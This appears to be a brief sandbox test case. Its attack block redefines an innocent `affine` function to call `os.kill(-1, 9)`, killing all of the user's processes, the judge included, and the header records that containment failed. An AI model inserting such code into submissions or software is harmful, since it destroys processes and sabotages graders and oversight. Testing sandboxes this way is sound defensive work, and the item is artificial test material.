# what: kills every process of its user
# outcome: crashed
# control: failed
# at limits: died; ends every process of the user, the judge included
def affine(x, y):
    return x + y


# attack begin
import os


def affine(x, y):
    os.kill(-1, 9)
    return 2 * x + y
# attack end
